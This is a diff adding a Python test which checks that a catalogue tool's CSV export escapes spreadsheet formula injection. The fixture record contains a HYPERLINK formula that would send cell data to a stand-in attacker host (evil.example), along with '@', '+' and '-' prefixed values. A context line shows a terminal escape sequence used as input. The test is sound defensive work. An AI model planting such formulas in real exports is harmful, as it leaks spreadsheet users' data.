@@ -397,3 +397,31 @@ def test_a_record_that_would_garble_the_terminal_is_reported_escaped(run, seeded
     assert result.exit_code == 1
     assert "\x1b" not in result.stderr and "\x07" not in result.stderr
     assert "record #1 (\\x1b]0;owned\\x07\\ud800 Group): field 'slug'" in result.stderr
+
+
+def test_csv_export_read_back_holds_formulas_as_text(run, seeded):
+    with Session(seeded) as session:
+        catalogue.upsert(
+            session,
+            factories.record(
+                slug="formula-group",
+                name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+                alternate_names=["@SUM(A1:A9)", "+1"],
+                description="-2+3 people write letters to people held in prison.",
+                longitude=-4.25,
+                latitude=55.86,
+            ),
+        )
+        session.commit()
+    result = run("export", "--format", "csv")
+    assert result.exit_code == 0
+    header, *rows = csv.reader(io.StringIO(result.stdout, newline=""))
+    row = dict(zip(header, next(r for r in rows if r[0] == "formula-group"), strict=True))
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert row["alternate_names"] == "'@SUM(A1:A9) | +1"
+    assert row["description"] == "'-2+3 people write letters to people held in prison."
+    assert row["longitude"] == "-4.25"
+    numbers = {"latitude", "longitude"}
+    for row in rows:  # no text cell of any listing starts as a formula would
+        cells = (cell for name, cell in zip(header, row, strict=True) if name not in numbers)
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
